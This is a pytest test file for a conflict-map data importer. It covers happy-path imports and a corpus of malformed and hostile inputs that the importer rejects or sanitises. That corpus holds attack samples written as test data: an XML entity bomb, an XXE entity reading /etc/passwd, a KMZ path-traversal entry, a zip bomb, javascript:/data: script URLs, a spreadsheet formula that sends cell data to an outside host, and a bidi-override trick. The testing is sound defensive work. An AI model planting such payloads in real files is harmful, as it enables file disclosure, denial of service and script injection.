"""Importing an analyst's own theatre: happy paths per format, and a corpus of malformed and hostile inputs.

Every corpus case asserts the exact outcome (the file, the feature or row, and the message of the error, or the
flagged repair), that nothing but DatasetError escapes, and that a previously imported theatre is byte-for-byte
unchanged afterwards.
"""

from __future__ import annotations

import datetime as dt
import io
import json
import math
import re
import zipfile
from dataclasses import dataclass, field

import pytest
from shapely.geometry import box

from layers.core import DatasetError, Problem, Territory, import_inputs, imports, load_dataset
from layers.core import geocheck as gc
from layers.core.import_config import InputFile
from tests.import_inputs import (
    ACLED_HEADER,
    AOI,
    CONFIG,
    EAST,
    EAST_BOX,
    F0,
    GOOD_SNAPSHOT,
    L2,
    SNAP,
    UTM_WEST,
    WEST,
    _damaged,
    acled,
    acled_row,
    config_file,
    fc,
    feat,
    gj,
    gpkg,
    km2,
    kml,
    kmz,
    placemark,
    poly,
    raw,
    ring,
    sq,
    tree,
    ucdp,
    ucdp_row,
)


def test_three_geojson_snapshots_become_dated_overrides(tmp_path):
    snaps = [
        GOOD_SNAPSHOT,
        gj("2017-03-01.geojson", feat(sq(38.9, 35.9, 39.05, 36.0), "SDF"), feat(sq(39.05, 35.9, 39.1, 36.0), "ISIS")),
        gj("2017-04-01.geojson", feat(sq(38.9, 35.9, 39.1, 36.0), "Syrian Democratic Forces")),
    ]
    folder = tmp_path / "snapshots"
    folder.mkdir()
    for f in reversed(snaps):  # the order files come in does not matter
        (folder / f.name).write_bytes(f.data)
    imported = imports.prepare(config_file(), import_inputs.read_paths([folder]))
    assert imported.warnings == []
    assert imported.counts == {"snapshot polygons": 5, "snapshot dates": 3, "events": 0, "places": 5}
    imports.save(imported, tmp_path / "t")
    ds = load_dataset(tmp_path / "t")
    spans = sorted((o.holder, o.valid_from.isoformat(), o.valid_to.isoformat()) for o in ds.overrides)
    assert spans == [
        ("ISIS", "2017-02-01", "2017-02-28"),
        ("ISIS", "2017-03-01", "2017-03-31"),
        ("SDF", "2017-02-01", "2017-02-28"),
        ("SDF", "2017-03-01", "2017-03-31"),
        ("SDF", "2017-04-01", "2017-12-31"),
    ]
    terr = Territory(ds)
    whole = km2(*AOI)
    assert set(terr.control_at(dt.date(2017, 1, 31)).polygons) == {"no reporting"}
    expected = {
        dt.date(2017, 2, 1): {"SDF": km2(38.9, 35.9, 39.0, 36.0), "ISIS": km2(39.0, 35.9, 39.1, 36.0)},
        dt.date(2017, 2, 28): {"SDF": km2(38.9, 35.9, 39.0, 36.0), "ISIS": km2(39.0, 35.9, 39.1, 36.0)},
        dt.date(2017, 3, 15): {"SDF": km2(38.9, 35.9, 39.05, 36.0), "ISIS": km2(39.05, 35.9, 39.1, 36.0)},
        dt.date(2017, 12, 31): {"SDF": whole, "ISIS": 0.0},
    }
    for date, areas in expected.items():
        snap = terr.control_at(date)
        for holder, area in areas.items():
            assert snap.area_km2(holder) == pytest.approx(area, rel=2e-3, abs=1e-3), (date, holder)
        assert snap.area_km2("no reporting") < 1e-3, date


@dataclass
class Case:
    """One bad input: what goes in, and the one finding it must give (kind, file, item, message)."""

    id: str
    inputs: object  # list[InputFile] or a function of tmp_path returning one
    kind: str  # "error" or "warning"
    file: str
    item: str
    message: str  # exact, or a regular expression when it starts with "re:"
    config: str = CONFIG
    patch: dict = field(default_factory=dict)


def _nan_file(literal: str) -> InputFile:
    text = json.dumps(fc(feat(WEST))).replace("38.9", literal, 1)
    return raw("2017-02-01.geojson", text)


def _bomb_kml() -> str:
    entities = '<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8)
    )
    return kml(placemark("&i;", "SDF", ring(38.9, 35.9, 39.0, 36.0)), head=f"<!DOCTYPE kml [{entities}]>")


def _zip_bomb() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        with z.open("doc.kml", "w") as fh:
            chunk = b" " * 2**20
            for _ in range(21):
                fh.write(chunk)
    return buf.getvalue()


CW = {"type": "Polygon", "coordinates": [[[38.9, 35.9], [38.9, 36.0], [39.0, 36.0], [39.0, 35.9], [38.9, 35.9]]]}


LOOP = [(38.9, 35.9), (39.0, 35.9), (39.0, 36.0), (38.9, 36.0), (38.905, 36.005), (38.905, 35.995), (38.9, 35.9)]


BOWTIE = [[38.9, 35.9], [39.0, 36.0], [39.0, 35.9], [38.9, 36.0], [38.9, 35.9]]


HOLE_OUT = {
    "type": "Polygon",
    "coordinates": [
        sq(38.9, 35.9, 39.0, 36.0)["coordinates"][0],
        [[39.05, 35.92], [39.06, 35.92], [39.06, 35.93], [39.05, 35.92]],
    ],
}  # fmt: skip


CORPUS = [
    # --- strict JSON
    Case("nan-literal", [_nan_file("NaN")], "error", SNAP, "file",
         "not valid JSON: NaN is not allowed in JSON (numbers must be finite)"),
    Case("infinity-literal", [_nan_file("-Infinity")], "error", SNAP, "file",
         "not valid JSON: -Infinity is not allowed in JSON (numbers must be finite)"),
    Case("overflowing-number", [_nan_file("1e400")], "error", SNAP, "file",
         "not valid JSON: number 1e400 is not finite"),
    Case("deeply-nested-json", [raw(SNAP, "[" * 100_000 + "]" * 100_000)], "error", SNAP, "file",
         "JSON nested deeper than 64 levels"),
    Case("duplicate-json-key", [raw(SNAP, '{"type": "FeatureCollection", "type": "Feature", "features": []}')],
         "error", SNAP, "file", "not valid JSON: duplicate key 'type' in one object"),
    Case("non-utf8-bytes", [raw(SNAP, json.dumps(fc(feat(WEST, name="X"))).encode().replace(b'"X"', b'"\xe9"'))],
         "error", SNAP, "file", "re:not UTF-8 text: byte 0xe9 at position \\d+"),
    Case("not-a-collection", [raw(SNAP, "[1, 2, 3]")], "error", SNAP, "file", "must be a GeoJSON FeatureCollection"),
    Case("png-renamed-geojson", [raw(SNAP, b"\x89PNG\r\n\x1a\n" + bytes(64))], "error", SNAP, "file",
         "content is a PNG image, not JSON as its extension says"),
    Case("unsupported-type", [raw("map.shp", b"\x00\x00\x27\x0a")], "error", "map.shp", "file",
         "unsupported file type '.shp': expected .geojson, .gpkg, .kml, .kmz or .csv"),
    Case("huge-file", [raw(SNAP, b"{" + b" " * (20 * 2**20))], "error", SNAP, "file", "larger than 20 MiB"),
    Case("too-many-features", [gj(SNAP, *[feat(WEST)] * 4)], "error", SNAP, "file",
         "more than 3 features in all the inputs together: the limit of one import", patch={"MAX_FEATURES": 3}),
    Case("too-many-vertices", [gj(SNAP, feat(WEST))], "error", SNAP, "file",
         "more than 4 positions in all the inputs together: the limit of one import; simplify the polygons",
         patch={"MAX_VERTICES": 4}),
    # --- CRS
    Case("legacy-crs-unknown", [gj(SNAP, feat(WEST), crs={"type": "name", "properties": {"name": "EPSG:999999"}})],
         "error", SNAP, "crs", "unknown CRS 'EPSG:999999': reproject to lon/lat WGS84 (EPSG:4326) before importing"),
    Case("legacy-crs-utm", [gj(SNAP, feat({"type": "Polygon", "coordinates": [UTM_WEST + UTM_WEST[:1]]}),
                               crs={"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::32637"}})],
         "warning", SNAP, "crs",
         "legacy 'crs' member urn:ogc:def:crs:EPSG::32637: reprojected to lon/lat WGS84 (EPSG:4326)"),
    Case("projected-metres-no-crs", [gj(SNAP, feat({"type": "Polygon", "coordinates": [UTM_WEST + UTM_WEST[:1]]}))],
         "error", SNAP, F0, "coordinates (500000, 3.975e+06) are not lon/lat degrees (projected metres?) and no "
         "CRS says what they are: reproject to EPSG:4326, or name the CRS (GeoJSON 'crs' member or inputs.crs in "
         "the config)"),
    # --- coordinates and place
    Case("swapped-lat-lon", [gj(SNAP, feat(sq(35.9, 38.9, 36.0, 39.0)))], "error", SNAP, F0,
         "polygon lies outside the area of interest but inside it with longitude and latitude swapped"),
    Case("outside-area", [gj(SNAP, feat(sq(10.0, 10.0, 10.1, 10.1)))], "error", SNAP, F0,
         "polygon lies outside the area of interest"),
    Case("string-coordinates", [gj(SNAP, feat(poly([[["38.9", "35.9"], [39, 35.9], [39, 36], [38.9, 35.9]]])))],
         "error", SNAP, F0, "coordinates must be JSON numbers, not strings or booleans"),
    Case("boolean-coordinates", [gj(SNAP, feat(poly([[[True, False], [39, 35.9], [39, 36], [38.9, 35.9]]])))],
         "error", SNAP, F0, "coordinates must be JSON numbers, not strings or booleans"),
    Case("four-number-position", [gj(SNAP, feat(poly([[[38.9, 35.9, 0, 7], [39, 35.9], [39, 36], [38.9, 35.9]]])))],
         "error", SNAP, F0, "each position must be an array of 2 numbers (lon, lat) or 3 (lon, lat, height)"),
    Case("3d-coordinates", [gj(SNAP, feat(poly([[[*p, 250.0] for p in WEST["coordinates"][0]]])))],
         "warning", SNAP, F0, "3D coordinates: Z values dropped"),
    Case("antimeridian-ring", [gj(SNAP, feat(poly([[[170, 10], [-170, 10], [-170, 20], [170, 20], [170, 10]]])))],
         "error", SNAP, F0, "polygon lies outside the area of interest"),
    Case("latitude-beyond-90", [gj(SNAP, feat(sq(35.9, 120.0, 36.0, 120.1)))], "error", SNAP, F0,
         "coordinates (35.9, 120) are outside lon ±180 / lat ±90: longitude and latitude swapped? GeoJSON is "
         "[longitude, latitude]"),
    Case("longitude-beyond-180", [gj(SNAP, feat(sq(200.0, 10.0, 200.1, 10.1)))], "error", SNAP, F0,
         "coordinates (200, 10) are outside lon ±180 / lat ±90"),
    Case("topojson", [raw("2017-02-01.json", json.dumps({"type": "Topology", "objects": {}, "arcs": []}))], "error",
         "2017-02-01.json", "file", "must be a GeoJSON FeatureCollection"),
    # --- geometry
    Case("unclosed-ring", [gj(SNAP, feat({"type": "Polygon", "coordinates": [WEST["coordinates"][0][:-1]]}))],
         "warning", SNAP, F0, "ring was not closed (first position != last): closed it"),
    Case("three-position-ring", [gj(SNAP, feat(poly([[[38.9, 35.9], [39.0, 35.9], [38.9, 35.9]]])))],
         "error", SNAP, F0, "ring has fewer than 4 positions"),
    Case("empty-geometry", [gj(SNAP, feat(poly([])))], "error", SNAP, F0, "geometry is empty"),
    Case("null-geometry", [gj(SNAP, feat(None))], "error", SNAP, F0, "has no geometry (null)"),
    Case("point-not-polygon", [gj(SNAP, feat({"type": "Point", "coordinates": [38.95, 35.95]}))], "error", SNAP, F0,
         "must be a Polygon or MultiPolygon, not Point"),
    Case("geometry-collection", [gj(SNAP, feat({"type": "GeometryCollection", "geometries": [WEST]}))], "error", SNAP,
         F0, "must be a Polygon or MultiPolygon, not GeometryCollection"),
    Case("feature-without-type", [raw(SNAP, json.dumps(fc({"properties": {"faction": "SDF"}, "geometry": WEST})))],
         "error", SNAP, F0, 'is not a GeoJSON Feature (needs "type": "Feature")'),
    Case("bowtie-rejected", [gj(SNAP, feat({"type": "Polygon", "coordinates": [BOWTIE]}))], "error", SNAP, F0,
         "invalid polygon (Self-intersection[38.95 35.95]); repairing it would change its area by all of it: "
         "fix it by hand and review"),
    Case("hole-outside-shell", [gj(SNAP, feat(HOLE_OUT))], "error", SNAP, F0,
         "invalid polygon (Hole lies outside shell[39.05 35.92]); repairing it would change its area by 1.0%: "
         "fix it by hand and review"),
    Case("small-loop-repaired", [gj(SNAP, feat({"type": "Polygon", "coordinates": [[list(p) for p in LOOP]]}))],
         "warning", SNAP, F0,
         "invalid polygon (Self-intersection[38.905 36]) repaired with make_valid; area changed by 0.26%"),
    Case("zero-area-spike", [gj(SNAP, feat(poly([[[38.9, 35.9], [39.0, 35.9], [39.05, 35.9], [38.9, 35.9]]])))],
         "error", SNAP, F0, "invalid polygon (Self-intersection[39 35.9]); repairing it would change its area by all "
         "of it: fix it by hand and review"),
    Case("duplicate-feature", [gj(SNAP, feat(WEST), feat(WEST))], "error", SNAP, "feature 1",
         "duplicate of 2017-02-01.geojson feature 0 (same date, faction and polygon)"),
    Case("overlapping-factions", [gj(SNAP, feat(WEST, "SDF"), feat(sq(38.99, 35.9, 39.1, 36.0), "ISIS"))], "error",
         SNAP, "feature 1", "re:ISIS overlaps SDF \\(2017-02-01.geojson feature 0\\) on 2017-02-01 by "
         "10\\.0\\d\\d km²: two factions cannot hold the same ground"),
    # --- factions, dates, text
    Case("unknown-faction", [gj(SNAP, feat(WEST, "Martians"))], "error", SNAP, F0,
         "unknown faction 'Martians': not a faction id (SDF, ISIS) or in faction_map"),
    Case("no-faction", [gj(SNAP, {"type": "Feature", "properties": {}, "geometry": WEST})], "error", SNAP, F0,
         "has no 'faction' property naming its faction"),
    Case("unparsable-date", [gj("snap.geojson", feat(WEST, date="06/02/2017"))], "error", "snap.geojson", F0,
         "date '06/02/2017' is not an ISO date (YYYY-MM-DD)"),
    Case("date-disagrees-with-name", [gj(SNAP, feat(WEST, date="2017-02-02"))], "error", SNAP, F0,
         "date 2017-02-02 disagrees with the date 2017-02-01 in the file name"),
    Case("no-date", [gj("snap.geojson", feat(WEST))], "error", "snap.geojson", F0,
         "has no date: name the file YYYY-MM-DD.geojson or give a 'date' property"),
    Case("impossible-date-in-name", [gj("2017-02-30.geojson", feat(WEST))], "error", "2017-02-30.geojson", "file",
         "date '2017-02-30' in the file name is not a real date"),
    Case("snapshot-after-theatre", [gj("2018-02-01.geojson", feat(WEST))], "error", "2018-02-01.geojson", F0,
         "date 2018-02-01 is outside the theatre 2017-01-01 .. 2017-12-31"),
    Case("javascript-url-in-snapshot", [gj(SNAP, feat(WEST, source_url="javascript:alert(1)"))], "error", SNAP, F0,
         "source_url 'javascript:alert(1)' is not an http(s) URL"),
    # --- KML / KMZ
    Case("kml-xml-bomb", [raw("bomb.kml", _bomb_kml())], "error", "bomb.kml", "file",
         "re:XML with a DTD, entities or external references is not accepted \\(DTDForbidden.*"),
    Case("kml-external-entity", [raw("xxe.kml", kml(placemark("&x;", "SDF", ring(38.9, 35.9, 39.0, 36.0)),
                                                     head='<!DOCTYPE kml [<!ENTITY x SYSTEM "file:///etc/passwd">]>'))],
         "error", "xxe.kml", "file", "re:XML with a DTD, entities or external references is not accepted \\(.*"),
    Case("kml-network-link", [raw("net.kml", kml("<NetworkLink><Link><href>http://example.org/a.kml</href></Link></NetworkLink>"))],
         "error", "net.kml", "file", "NetworkLink elements are not followed: put the features in the file itself"),
    Case("kml-not-well-formed", [raw("broken.kml", "<kml><Document>")], "error", "broken.kml", "file",
         "re:not well-formed XML: .*"),
    Case("kml-timespan-backwards", [raw("span.kml", kml(placemark("A", "SDF", ring(38.9, 35.9, 39.0, 36.0),
                                                          "<TimeSpan><begin>2017-05-01</begin><end>2017-04-01</end></TimeSpan>")))],
         "error", "span.kml", "placemark 0 (A) in doc",
         "TimeSpan runs backwards: begin 2017-05-01 is after end 2017-04-01"),
    Case("kmz-path-traversal", [InputFile("evil.kmz", kmz({"doc.kml": kml().encode(), "../../evil.kml": b"<kml/>"}))],
         "error", "evil.kmz", "entry '../../evil.kml'", "path leaves the archive (path traversal): rejected"),
    Case("kmz-zip-bomb", [InputFile("bomb.kmz", _zip_bomb())], "error", "bomb.kmz", "entry 'doc.kml'",
         "expands beyond 20 MiB (zip bomb?): rejected"),
    Case("kmz-not-a-zip", [raw("fake.kmz", "<kml/>")], "error", "fake.kmz", "file",
         "content is something else, not KMZ (zip) as its extension says"),
    # --- GeoPackage
    Case("gpkg-garbage", [raw("x.gpkg", b"SQLite format 3\x00" + bytes(100))], "error", "x.gpkg", "file",
         "re:cannot be read as a GeoPackage: .*"),
    Case("gpkg-unknown-faction", lambda tmp: [gpkg(tmp, [{"date": "2017-02-01", "faction": "Martians",
                                                          "geometry": box(38.9, 35.9, 39.0, 36.0)}])],
         "error", "snapshots.gpkg", "layer snapshots feature 0",
         "unknown faction 'Martians': not a faction id (SDF, ISIS) or in faction_map"),
    Case("gpkg-too-many-vertices", lambda tmp: [gpkg(tmp, [{"date": "2017-02-01", "faction": "SDF",
                                                            "geometry": box(38.9, 35.9, 39.0, 36.0)}])],
         "error", "snapshots.gpkg", "file", "more than 4 positions in all the inputs together: the limit of one "
         "import; simplify the polygons", patch={"MAX_VERTICES": 4}),
    # --- event tables
    Case("javascript-url-in-source", [acled(acled_row(source="javascript:alert(document.cookie)"))], "error",
         "acled.csv", L2, "source 'javascript:alert(document.cookie)' is not an http(s) URL"),
    Case("data-url-in-ucdp-source", [ucdp(ucdp_row(article="see data:text/html,<script>x</script>"))], "error",
         "ged.csv", "line 2 (123)", "source_article 'data:text/html,<script>x</script>' is not an http(s) URL"),
    Case("credentials-in-link", [acled(acled_row(source="Wire http://user:secret@example.org/a"))], "error",
         "acled.csv", L2, "source: a link with a user name or password is not accepted "
         "('http://user:secret@example.org/a')"),
    Case("latitude-95", [acled(acled_row(lat="95"))], "error", "acled.csv", L2,
         "longitude 38.95 / latitude 95 are outside ±180 / ±90"),
    Case("formula-injection", [acled(acled_row(notes='=HYPERLINK("http://x/?"&A1,"click")'))], "warning",
         "acled.csv", L2, "notes starts with '=': stored as text; a spreadsheet opening it may run a formula"),
    Case("bidi-override", [acled(acled_row(notes="safe \u202etxt.exe"))], "warning", "acled.csv", L2,
         "notes: removed bidirectional override characters"),
    Case("impossible-event-date", [acled(acled_row(date="2017-02-30"))], "error", "acled.csv", L2,
         "event_date '2017-02-30' is not a date (YYYY-MM-DD)"),
    Case("ambiguous-event-date", [acled(acled_row(date="03/04/2017"))], "error", "acled.csv", L2,
         "event_date '03/04/2017' is not a date (YYYY-MM-DD)"),
    Case("event-after-theatre", [acled(acled_row(date="2018-01-02"))], "error", "acled.csv", L2,
         "date 2018-01-02 is outside the theatre 2017-01-01 .. 2017-12-31"),
    Case("ucdp-dates-backwards", [ucdp(ucdp_row(start="2017-03-05", end="2017-03-01"))], "error", "ged.csv",
         "line 2 (123)", "dates run backwards: date_end 2017-03-01 is before date_start 2017-03-05"),
    Case("event-swapped-lat-lon", [acled(acled_row(lat="38.95", lon="35.95"))], "error", "acled.csv", L2,
         "location 'Tabqa' (38.95 N, 35.95 E) lies outside the area of interest but inside it with longitude and "
         "latitude swapped"),
    Case("event-outside-area", [acled(acled_row(lat="36.5", lon="40.5"))], "error", "acled.csv", L2,
         "location 'Tabqa' (36.5 N, 40.5 E) lies outside the area of interest"),
    Case("comma-decimal", [acled(acled_row(lat="35,95"))], "error", "acled.csv", L2,
         "latitude '35,95' is not a decimal number (e.g. 35.95)"),
    Case("dms-coordinate", [acled(acled_row(lat="35°57'N"))], "error", "acled.csv", L2,
         "latitude \"35°57'N\" is not a decimal number (e.g. 35.95)"),
    Case("unknown-place", [acled(acled_row(lat="", lon=""))], "error", "acled.csv", L2,
         "unknown place 'Tabqa': the row has no latitude/longitude"),
    Case("duplicate-event-id", [acled(acled_row(), acled_row(date="2017-02-04"))], "error", "acled.csv",
         "line 3 (SYR1)", "duplicate event id 'SYR1' (first in acled.csv line 2 (SYR1))"),
    Case("csv-non-utf8", [raw("acled.csv", (ACLED_HEADER + "\n" + acled_row(location="Ma'dan")).encode()
                              .replace(b"Ma'dan", b"Ma\xe9dan"))],
         "error", "acled.csv", "file", "re:not UTF-8 text: byte 0xe9 at position \\d+"),
    Case("csv-nul-bytes", [raw("acled.csv", ACLED_HEADER + "\n\x00\x00")], "error", "acled.csv", "file",
         "content is something else, not CSV text as its extension says"),
    Case("csv-unknown-layout", [raw("events.csv", "when,where\n2017-01-01,Raqqa\n")], "error", "events.csv", "header",
         "not an ACLED or UCDP GED table: missing ACLED column(s) event_id_cnty, event_date, event_type, actor1, "
         "location, latitude, longitude"),
    Case("csv-semicolons", [raw("events.csv", ACLED_HEADER.replace(",", ";") + "\n")], "error", "events.csv", "header",
         "not an ACLED or UCDP GED table: missing ACLED column(s) event_id_cnty, event_date, event_type, actor1, "
         "location, latitude, longitude (the header has no commas: save the table comma-separated)"),
    Case("csv-extra-fields", [acled(acled_row() + ",surplus")], "error", "acled.csv", "line 2",
         "more fields than the header has"),
    Case("too-many-rows", [acled(acled_row(), acled_row("SYR2"), acled_row("SYR3"))], "error", "acled.csv", "file",
         "more than 2 rows", patch={"MAX_ROWS": 2}),
    Case("csv-huge-field", [acled(acled_row(notes="x" * 200_000))], "error", "acled.csv", "line 2",
         "cannot be read as CSV: field larger than field limit (131072)"),
    Case("long-text-cut", [acled(acled_row(notes="y" * 3000))], "warning", "acled.csv", L2,
         "notes: longer than 2000 characters, cut"),
    Case("csv-header-only", [acled()], "error", "acled.csv", "file", "has no rows"),
    Case("geojson-no-features", [gj(SNAP)], "error", SNAP, "file", "has no polygon features"),
    Case("kml-no-placemarks", [raw("empty.kml", kml())], "error", "empty.kml", "file", "has no polygon features"),
    Case("point-skipped-by-config", [gj(SNAP, feat(WEST), feat({"type": "Point", "coordinates": [38.95, 35.95]}))],
         "warning", SNAP, "feature 1", "Point skipped (inputs.skip_other_geometries)",
         config=CONFIG + "\n[inputs]\nskip_other_geometries = true\n"),
    # --- config
    Case("config-dates-backwards", [GOOD_SNAPSHOT], "error", "theatre.toml", "start/end",
         "dates run backwards: start 2017-12-31 is after end 2017-01-01",
         config=CONFIG.replace("start = 2017-01-01", "start = 2017-12-31")
         .replace('end = "2017-12-31"', 'end = "2017-01-01"')),
    Case("config-map-to-unknown-id", [GOOD_SNAPSHOT], "error", "theatre.toml", "faction_map.Daesh",
         "maps to 'IS', which is not a faction id", config=CONFIG.replace('"Daesh" = "ISIS"', '"Daesh" = "IS"')),
    Case("config-bad-colour", [GOOD_SNAPSHOT], "error", "theatre.toml", "factions[1]",
         "color 'black' is not a #rrggbb colour", config=CONFIG.replace('"#3a3a3a"', '"black"')),
    Case("config-javascript-source", [GOOD_SNAPSHOT], "error", "theatre.toml", "source_url",
         "'javascript:alert(1)' must be an http(s) URL: the default source of every row",
         config=CONFIG.replace("https://example.org/source", "javascript:alert(1)")),
    Case("config-deeply-nested-toml", [GOOD_SNAPSHOT], "error", "theatre.toml", "file",
         "TOML nested deeper than 64 levels", config='name = "x"\na = ' + "[" * 100_000 + "]" * 100_000),
    Case("config-reserved-faction-id", [GOOD_SNAPSHOT], "error", "theatre.toml", "factions[1]",
         "'no reporting' is reserved for ground no snapshot covers",
         config=CONFIG.replace('id = "ISIS"', 'id = "no reporting"')),
    Case("config-unknown-input-crs", [GOOD_SNAPSHOT], "error", "theatre.toml", "inputs.crs",
         "unknown CRS 'EPSG:0': reproject to lon/lat WGS84 (EPSG:4326) before importing",
         config=CONFIG + '\n[inputs]\ncrs = "EPSG:0"\n'),
]  # fmt: skip


def _matches(p: Problem, case: Case) -> bool:
    if (p.file, p.item) != (case.file, case.item):
        return False
    if case.message.startswith("re:"):
        return re.fullmatch(case.message[3:], p.message, flags=re.S) is not None
    return p.message == case.message


@pytest.mark.parametrize("case", CORPUS, ids=[c.id for c in CORPUS])
def test_corpus(case: Case, existing, tmp_path, monkeypatch):
    folder, before = existing
    for name, value in case.patch.items():
        monkeypatch.setattr(gc, name, value)
    inputs = case.inputs(tmp_path) if callable(case.inputs) else case.inputs
    # Aim at the existing theatre: a bad input must leave it exactly as it was.
    target = folder if case.kind == "error" else tmp_path / "other"
    try:
        imported = imports.prepare(config_file(case.config), inputs)
        imports.save(imported, target, replace=True)
    except DatasetError as exc:
        assert case.kind == "error", exc.problems
        assert any(_matches(p, case) for p in exc.problems), exc.problems
    else:
        assert case.kind == "warning", f"accepted: {imported.warnings}"
        assert any(_matches(p, case) for p in imported.warnings), imported.warnings
        load_dataset(target)
    assert tree(folder) == before


def test_corpus_is_large_enough():
    assert len(CORPUS) >= 30
    assert len({c.id for c in CORPUS}) == len(CORPUS)


def test_save_refuses_to_replace_a_folder_that_is_not_a_dataset(tmp_path):
    (tmp_path / "notes").mkdir()
    (tmp_path / "notes" / "keep.txt").write_text("mine")
    with pytest.raises(DatasetError) as err:
        imports.save(imports.prepare(config_file(), [GOOD_SNAPSHOT]), tmp_path / "notes", replace=True)
    assert err.value.problems == [Problem("notes", "folder", "exists and is not a dataset folder: not replaced")]
    assert (tmp_path / "notes" / "keep.txt").read_text() == "mine"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["notes"]  # no temp folder left behind


def test_a_good_import_replaces_only_with_replace(existing):
    folder, before = existing
    snap = gj("2017-05-01.geojson", feat(sq(*AOI), "SDF"))
    with pytest.raises(DatasetError):
        imports.save(imports.prepare(config_file(), [snap]), folder)
    assert tree(folder) == before
    imports.save(imports.prepare(config_file(), [snap]), folder, replace=True)
    assert len(load_dataset(folder).overrides) == 1
    assert [p.name for p in folder.parent.iterdir()] == ["existing"]


def _good_inputs(tmp_path) -> list[InputFile]:
    return [
        GOOD_SNAPSHOT,
        gpkg(tmp_path, [{"date": "2017-03-01", "faction": "SDF", "geometry": box(38.9, 35.9, 39.0, 36.0)}]),
        raw("2017-04-01.kml", kml(placemark("A", "SDF", ring(38.9, 35.9, 39.0, 36.0)))),
        InputFile("2017-05-01.kmz", kmz({"doc.kml": kml(placemark("B", "ISIS", ring(*EAST_BOX))).encode()})),
        acled(acled_row()),
        ucdp(ucdp_row()),
    ]


@pytest.mark.parametrize("seed", range(24))
def test_damaged_inputs_never_crash(tmp_path, seed):
    good = _good_inputs(tmp_path)
    for i, f in enumerate(good):
        damaged = [g if j != i else InputFile(f.name, _damaged(f.data, seed * 31 + i)) for j, g in enumerate(good)]
        try:
            imports.save(imports.prepare(config_file(), damaged), tmp_path / f"out-{i}", replace=True)
        except DatasetError as exc:
            assert exc.problems and all(isinstance(p, Problem) for p in exc.problems)


def test_an_imported_theatre_renders_in_the_dashboard(tmp_path):
    from layers.core.timeline import state_on
    from layers.features import page
    from layers.server.context import context

    snaps = [GOOD_SNAPSHOT, gj("2017-03-01.geojson", feat(sq(*AOI), "SDF"))]
    imports.save(imports.prepare(config_file(), [*snaps, acled(acled_row()), ucdp(ucdp_row())]), tmp_path / "t")
    ctx = context(str(tmp_path / "t"))
    page.page(ctx, "t")
    holders = ctx.tables["holders"]
    for day, expected in ((30, {}), (33, {"SDF": 0.5, "ISIS": 0.5}), (70, {"SDF": 1.0})):
        areas = dict(zip(holders, state_on(ctx.tables, day)["km2"], strict=True))
        total = sum(areas.values())
        assert total == pytest.approx(km2(*AOI), rel=2e-3), day
        for holder in ("SDF", "ISIS"):
            assert areas[holder] / total == pytest.approx(expected.get(holder, 0.0), abs=1e-3), (day, holder)


def _near_identical_squares(n: int) -> InputFile:
    """n squares 1 km across, each shifted by a millimetre, SDF and ISIS alternating: every pair overlaps."""
    feats = [
        feat(sq(38.95 + i * 1e-8, 35.95, 38.96 + i * 1e-8, 35.96), "SDF" if i % 2 == 0 else "ISIS") for i in range(n)
    ]
    return gj(SNAP, *feats)


def _assert_capped_overlaps(problems: list[Problem]) -> None:
    listed = [p for p in problems if p.item not in ("more", "check")]
    assert len(listed) == gc.MAX_LISTED
    assert all(re.fullmatch(r"(SDF|ISIS) overlaps (SDF|ISIS) \(.*\) on 2017-02-01 by 1\.\d+ km²: .*", p.message)
               for p in listed)  # fmt: skip
    assert problems[-2:] == [
        Problem(SNAP, "more", f"... and {gc.MAX_ERRORS - gc.MAX_LISTED:,} more overlaps (not listed)"),
        Problem("inputs", "check", f"stopped after {gc.MAX_ERRORS:,} errors: the rest was not checked"),
    ]


def test_overlapping_squares_give_a_capped_list_and_the_check_stops():
    """2,000 near-identical squares (a million overlapping pairs): 50 listed, the rest counted until the budget."""
    with pytest.raises(DatasetError) as err:
        imports.prepare(config_file(), [_near_identical_squares(2_000)])
    _assert_capped_overlaps(err.value.problems)


@pytest.mark.slow
def test_the_most_overlapping_squares_that_fit_give_the_same_capped_list():
    with pytest.raises(DatasetError) as err:
        imports.prepare(config_file(), [_near_identical_squares(gc.MAX_FEATURES)])
    _assert_capped_overlaps(err.value.problems)


def test_polygons_piled_on_one_spot_stop_the_overlap_check(monkeypatch):
    """Slices of a pie meet only at its centre, so none overlaps, but every pair of bounding boxes meets."""
    monkeypatch.setattr(gc, "MAX_OVERLAP_PAIRS", 100)
    slices = []
    for i in range(30):
        a, b = 2 * math.pi * i / 30, 2 * math.pi * (i + 1) / 30
        tip = [[39.0 + 0.04 * math.cos(t), 35.95 + 0.04 * math.sin(t)] for t in (a, b)]
        slices.append(feat(poly([[[39.0, 35.95], *tip, [39.0, 35.95]]]), "SDF" if i % 2 else "ISIS"))
    with pytest.raises(DatasetError) as err:
        imports.prepare(config_file(), [gj(SNAP, *slices)])
    assert len(err.value.problems) == 1
    (problem,) = err.value.problems
    assert problem.file == SNAP and problem.message == (
        "more than 100 pairs of polygons on 2017-02-01 lie on or next to each other: overlap check stopped; "
        "merge or simplify the snapshot polygons"
    )


def test_a_grid_of_neighbours_is_accepted_and_opens():
    """Squares sharing edges: compared with their neighbours only, and derived in one pass."""
    k = 20
    dx, dy = 0.2 / k, 0.1 / k
    cells = [feat(sq(38.9 + i * dx, 35.9 + j * dy, 38.9 + (i + 1) * dx, 35.9 + (j + 1) * dy),
                  "SDF" if (i + j) % 2 else "ISIS") for i in range(k) for j in range(k)]  # fmt: skip
    imported = imports.prepare(config_file(), [gj(SNAP, *cells)])
    assert imported.counts["snapshot polygons"] == k * k


def test_the_longest_theatre_allowed_imports_and_opens(tmp_path):
    from layers.core.dataset import MAX_DATE, MAX_SPAN_DAYS
    from layers.core.timeline import build_timeline

    start = MAX_DATE - dt.timedelta(days=MAX_SPAN_DAYS)
    cfg = CONFIG.replace("start = 2017-01-01", f"start = {start}").replace('end = "2017-12-31"', f'end = "{MAX_DATE}"')
    last = gj(f"{MAX_DATE}.geojson", feat(sq(*AOI), "SDF"))
    imports.save(imports.prepare(config_file(cfg), [gj(f"{start}.geojson", feat(WEST), feat(EAST, "ISIS")), last]),
                 tmp_path / "t")  # fmt: skip
    tables = build_timeline(Territory(load_dataset(tmp_path / "t")))
    assert tables["span"] == MAX_SPAN_DAYS
